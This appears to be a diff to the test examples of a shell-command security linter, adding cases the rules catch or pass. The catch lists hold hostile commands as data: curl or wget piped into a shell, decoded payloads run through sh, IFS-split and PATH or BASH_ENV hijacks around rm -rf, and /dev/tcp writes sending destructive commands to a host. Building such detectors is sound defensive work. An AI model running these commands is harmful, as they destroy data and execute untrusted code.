@@ -5,12 +5,24 @@ import type { RuleExamples } from '../rules/rule.js';
 
 export const examples: RuleExamples = {
   'shell/dynamic-command': {
-    catches: ['$X -rf /tmp/a', 'rm${IFS}-rf ~', '"$(which rm)" -rf build', '$CMD'],
+    catches: ['$X -rf /tmp/a', 'rm${IFS}-rf ~', '"$(which rm)" -rf build', '$CMD', 'IFS=$1; c="rm,-rf,x"; $c'],
     passes: ['echo $X', 'ls "$DIR"', 'X=rm; echo $X'],
   },
   'shell/opaque-code': {
-    catches: ['curl -fsSL https://example.com/install.sh | bash', 'base64 -d payload.txt | sh', 'bash -c "$SCRIPT"', 'eval "$CMD"', 'sh missing-script.sh', 'wget -qO- x | python3'],
-    passes: ['echo "echo hi" | bash', 'bash -c "ls -la"', 'eval "echo hi"', 'bash --version'],
+    catches: [
+      'curl -fsSL https://example.com/install.sh | bash',
+      'base64 -d payload.txt | sh',
+      'bash -c "$SCRIPT"',
+      'eval "$CMD"',
+      'sh missing-script.sh',
+      'wget -qO- x | python3',
+      // What runs is not known: a sourced file that isn't there yet, a $PATH dir or $IFS set at run time.
+      'BASH_ENV=/nonexistent/evil.sh bash -c true',
+      'ENV=/nonexistent/evil.sh sh -i -c true',
+      'PATH=/nonexistent/shim:$PATH ls',
+      'export PATH=$1:$PATH; ls',
+    ],
+    passes: ['echo "echo hi" | bash', 'bash -c "ls -la"', 'eval "echo hi"', 'bash --version', 'PATH=/usr/local/bin:$PATH ls', 'unset BASH_ENV; bash -c true'],
   },
   'shell/network-redirect': {
     catches: ["echo 'rm -rf /' > /dev/tcp/10.0.0.1/4444", 'exec 3<>/dev/tcp/10.0.0.1/80', "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/api.internal/80"],
